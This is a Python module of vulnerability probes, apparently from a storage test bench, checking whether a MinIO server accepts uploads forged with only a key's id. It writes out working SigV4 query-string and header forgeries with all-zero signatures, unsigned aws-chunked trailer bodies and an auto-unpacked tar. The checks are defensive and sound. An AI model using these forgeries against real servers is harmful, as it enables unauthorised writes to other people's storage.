"""Probes for two known faults of MinIO: objects stored by somebody who knows a key's id, but not its secret.

Both are in its handling of ``STREAMING-UNSIGNED-PAYLOAD-TRAILER``, and in every community version since May 2023. The
probes store a few bytes in a scratch bucket, signed with zeroes. Sources: the advisories GHSA-hv4r-mvr4-25vw
(CVE-2026-41145) and GHSA-9c4q-hq6p-c237 (CVE-2026-40344).
"""

from __future__ import annotations

import base64
import zlib
from typing import Final

from ddsd.storage.check.bench import Bench, call, keys_in
from ddsd.storage.check.outcome import NotKept
from ddsd.storage.check.replay import UNPACK, tar_of
from ddsd.storage.port import ScopedKey
from ddsd.storage.sigv4 import ALGORITHM, amz_date_of, canonical_query, host_of, scope

_UNSIGNED_TRAILER: Final = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
_ZEROES: Final = "0" * 64
_PROBE: Final = b"probe"


async def query_form(bench: Bench) -> str:
    """CVE-2026-41145: the signature stands in the query, is all zeroes, and the body comes in unsigned chunks."""
    bucket = await bench.bucket()
    key = await bench.upload_key(bucket)
    stored = []
    begun = await call(bench.holder(key)._create_multipart_upload, bucket, "part", {})
    for what, name, extra in (
        ("an object", "object", {}),
        ("a part", "part", {"partNumber": "1", "uploadId": begun}),
    ):
        address = f"{bench.endpoint}/{bucket}/{name}?{_forged_query(bench, key, extra)}"
        answer = await bench.http.put(address, headers=_trailer(_PROBE), content=_chunked(_PROBE))
        if answer.status_code < 300:
            stored.append(what)
    if "object" in await keys_in(bench.store, bucket):
        stored.append("which is there")
    if stored:
        raise NotKept(f"Without the key's secret it took {', '.join(stored)}.")
    return "The forged requests were refused."


async def header_form(bench: Bench) -> str:
    """CVE-2026-40344: the same in the header, for an archive that the store unpacks, and for a plain object."""
    bucket = await bench.bucket()
    key = await bench.upload_key(bucket)
    forged = _forged_headers(bench, key)
    plain = forged | _trailer(_PROBE)
    archive = forged | UNPACK | {"x-amz-content-sha256": _UNSIGNED_TRAILER}
    for name, headers, body in (
        ("object", plain, _chunked(_PROBE)),
        # Not in chunks: what is unpacked is the body as it comes.
        ("archive.tar", archive, tar_of("unpacked")),
    ):
        await bench.http.put(f"{bench.endpoint}/{bucket}/{name}", headers=headers, content=body)
    stored = await keys_in(bench.store, bucket)
    if stored:
        raise NotKept(f"Without the key's secret it stored: {', '.join(stored)}.")
    return "The forged requests were refused."


def _forged_query(bench: Bench, key: ScopedKey, extra: dict[str, str]) -> str:
    date = amz_date_of(bench.clock.now())
    claims = {
        "X-Amz-Algorithm": ALGORITHM,
        "X-Amz-Credential": f"{key.access_key}/{scope(date, bench.store.region)}",
        "X-Amz-Date": date,
        "X-Amz-Expires": "900",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": _ZEROES,
    }
    return canonical_query((claims | extra).items())


def _forged_headers(bench: Bench, key: ScopedKey) -> dict[str, str]:
    date = amz_date_of(bench.clock.now())
    credential = f"{key.access_key}/{scope(date, bench.store.region)}"
    names = "host;x-amz-content-sha256;x-amz-date"
    return {
        "Host": host_of(bench.endpoint),
        "x-amz-date": date,
        "Authorization": f"{ALGORITHM} Credential={credential}, SignedHeaders={names}, "
        f"Signature={_ZEROES}",
    }


def _trailer(body: bytes) -> dict[str, str]:
    return {
        "x-amz-content-sha256": _UNSIGNED_TRAILER,
        "x-amz-decoded-content-length": str(len(body)),
        "x-amz-trailer": "x-amz-checksum-crc32",
        "Content-Encoding": "aws-chunked",
    }


def _chunked(body: bytes) -> bytes:
    """Return the body as AWS's unsigned chunks, with its CRC-32 at the end."""
    checksum = base64.b64encode(zlib.crc32(body).to_bytes(4, "big")).decode()
    tail = f"x-amz-checksum-crc32:{checksum}\r\n\r\n"
    return f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n" + tail.encode()
